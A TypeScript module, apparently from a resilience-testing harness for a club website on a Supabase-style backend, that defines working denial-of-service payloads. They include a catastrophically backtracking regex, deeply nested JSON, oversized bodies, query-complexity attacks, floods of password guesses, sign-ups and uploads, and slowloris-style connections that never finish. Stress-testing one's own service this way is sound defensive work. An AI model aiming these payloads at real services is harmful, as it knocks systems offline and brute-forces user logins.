import { randomUUID } from "node:crypto";
import type { Attack, Kind } from "./attack.ts";

const rest = "/rest/v1";
const json = (value: unknown): string => JSON.stringify(value);
const backtracking = encodeURIComponent("(.)(.)(.)(.)(.)(.)(.)(.)(.*)\\9\\8\\7\\6\\5\\4\\3\\2\\1\\1\\2");
const columns = Array.from({ length: 900 }, (_, n) => `a${n}:safety_text`).join(",");
const orTree = (depth: number): string =>
  depth === 0 ? "name.like.*a*" : `or(${orTree(depth - 1)},${orTree(depth - 1)})`;
const embeds = "*,teams(*,team_members(*,members(*,scores(*)))),scores(*,members(*))";
const emptyRows = `[${"{},".repeat(667_000)}{}]`;
const longText = json({ title: "x".repeat(3_900_000) });
const deep = `{"secret":${"[".repeat(7_000)}${"]".repeat(7_000)}}`;
const pdf = Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(1_000_000, 32)]);
const nextDays = (n: number): string =>
  new Date(Date.UTC(2020, 0, 1 + (n % 2000))).toISOString().slice(0, 10);
const someone = (): string => `${randomUUID()}@flood.example`;
const auth = (attack: Attack, path: string, body: unknown) =>
  attack.ask("POST", `/auth/v1${path}`, { body: json(body) });

/** Kinds of load that one request or a few are enough for. */
const requests: Kind[] = [
  {
    name: "2 MB of empty rows, Pending account",
    send: (attack) =>
      attack.ask("POST", `${rest}/bulletin_posts`, { token: attack.target.tokens.pending, body: emptyRows }),
  },
  { name: "deep JSON", send: (attack) => attack.ask("POST", `${rest}/rpc/display_season`, { body: deep }) },
  {
    name: "bodies of 4 MB, member",
    send: (attack) =>
      attack.ask("POST", `${rest}/bulletin_posts`, { token: attack.target.tokens.member, body: longText }),
  },
  {
    name: "regular expressions that backtrack",
    send: (attack) => attack.ask("GET", `${rest}/club_settings?select=id&about_text=imatch.${backtracking}`),
  },
  { name: "900 columns", send: (attack) => attack.ask("GET", `${rest}/club_settings?select=${columns}`) },
  {
    name: "deep embeds, member",
    send: (attack) =>
      attack.ask("GET", `${rest}/seasons?select=${embeds}`, { token: attack.target.tokens.member }),
  },
  {
    name: "trees of conditions",
    send: (attack) => attack.ask("GET", `${rest}/club_settings?select=id&or=(${orTree(8)})`),
  },
  {
    name: "far offsets, member",
    send: (attack, n) =>
      attack.ask("GET", `${rest}/scores?select=*&order=hits,id&offset=${n * 1000}&limit=1000000000`, {
        token: attack.target.tokens.member,
      }),
  },
  {
    name: "long reads, member",
    send: (attack, n) => {
      const { season, tokens } = attack.target;
      const [method, path, body] = [
        ["POST", "/rpc/season_book", json({ season_id: season })] as const,
        ["POST", "/rpc/my_data", "{}"] as const,
        ["GET", "/scores?select=*&limit=1000", ""] as const,
      ][n % 3] ?? ["GET", "/scores", ""];
      return attack.ask(method, rest + path, { token: tokens.member, ...(body ? { body } : {}) });
    },
  },
];

const floods: Kind[] = [
  {
    name: "guesses of passwords",
    send: (attack, n) =>
      auth(attack, "/token?grant_type=password", {
        email: n % 2 ? someone() : "reader@club.example",
        password: "a guess that is wrong",
      }),
  },
  {
    name: "sign-ups",
    send: (attack) =>
      auth(attack, "/signup", {
        email: someone(),
        password: "flooding clay pigeons",
        data: { first_name: "Flo", last_name: "Od" },
      }),
  },
  {
    name: "refresh tokens",
    send: (attack) => auth(attack, "/token?grant_type=refresh_token", { refresh_token: randomUUID() }),
  },
  {
    name: "links of emails",
    send: (attack) => attack.ask("GET", `/auth/v1/verify?type=signup&token=${randomUUID()}`),
  },
  {
    name: "TV links",
    send: (attack) =>
      attack.ask("POST", `${rest}/rpc/display_season`, { body: json({ secret: randomUUID() }) }),
  },
  {
    name: "documents of the site",
    send: (attack, n) =>
      attack.ask("GET", ["/", `/news-article/${randomUUID()}`, "/news", "/sitemap.xml"][n % 4] ?? "/", {
        headers: { "accept-encoding": "br" },
      }),
  },
  {
    name: "weather",
    send: (attack, n) =>
      attack.ask("POST", "/functions/v1/fetch-weather", {
        body: json({ date: nextDays(n), timeOfRound: "18:00", isFutureDate: false }),
      }),
  },
  {
    name: "uploads, member",
    send: (attack) =>
      attack.ask("POST", `/storage/v1/object/attachments/${attack.target.attackerId}/${randomUUID()}.pdf`, {
        token: attack.target.tokens.member,
        body: pdf,
        headers: { "content-type": "application/pdf" },
      }),
  },
  {
    name: "addresses of files, member",
    send: (attack) =>
      attack.ask("POST", "/storage/v1/object/sign/attachments", {
        token: attack.target.tokens.member,
        body: json({ expiresIn: 60, paths: Array.from({ length: 100 }, () => `x/${randomUUID()}.pdf`) }),
      }),
  },
  {
    name: "requests that are aborted, member",
    send: (attack) =>
      attack.leave("POST", `${rest}/rpc/season_book`, {
        token: attack.target.tokens.member,
        body: json({ season_id: attack.target.season }),
      }),
  },
];

const head = (target: Attack["target"], length: number): string =>
  `POST ${rest}/rpc/display_season HTTP/1.1\r\nhost: localhost\r\napikey: ${target.key}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;

const connections: Kind[] = [
  {
    name: "heads that never end",
    send: (attack) =>
      attack.dribble(["GET / HTTP/1.1\r\n", ...Array.from({ length: 10 }, () => "x-more: 1\r\n")], 300),
  },
  {
    name: "bodies that never end",
    send: (attack) => attack.dribble([head(attack.target, 16_000), ..."{}{}{}{}{}"], 300),
  },
  { name: "half-open connections", send: (attack, n) => attack.dribble(n % 2 ? ["GET /"] : [""], 50) },
];

export const kinds: readonly Kind[] = [...requests, ...floods, ...connections];
